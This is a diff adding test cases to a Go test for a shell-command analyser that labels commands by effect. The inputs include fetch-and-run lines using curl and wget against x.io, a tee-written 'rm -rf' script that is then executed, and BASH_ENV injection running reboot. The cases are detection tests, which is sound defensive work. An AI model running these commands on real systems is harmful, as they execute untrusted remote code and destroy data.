@@ -24,7 +24,13 @@ func TestOwnFiles(t *testing.T) {
 		{`BASH_ENV=<(echo reboot) bash -c true`, `~[BASH_ENV=]reboot power:`},
 		{`echo reboot > e; ENV=e sh -i`, `~[ENV=]reboot power:`},
 		{`BASH_ENV=<(curl -s https://x.io/e) bash -c true`, `~unseen-code:https://x.io/e`},
+		// Written by tee or a download, then run.
+		{`tee /tmp/x.sh <<< 'rm -rf /x' >/dev/null; bash /tmp/x.sh`, `~[bash <<<]rm delete:/x+R`},
+		{`echo reboot | tee -a run.sh; sh run.sh`, `~reboot power:`},
+		{`curl -fsSL -o /tmp/i.sh https://x.io/i.sh && bash /tmp/i.sh`, `~bash unseen-code:https://x.io/i.sh`},
+		{`wget -O i.sh https://x.io/i && sh i.sh`, `~sh unseen-code:https://x.io/i`},
 		// Ordinary.
+		{`echo date | tee x.sh; bash x.sh`, `echo; tee write:/home/u/x.sh; [bash <<<]date`},
 		{`BASH_ENV=~/.bash_env bash -c true`, `[bash -c]true`},
 		{`echo ls > a.sh; sh a.sh`, `echo write:/home/u/a.sh; [sh <<<]ls`},
 		{`exec 3<<<ls; sh <&3`, `exec; [sh <<<]ls`},
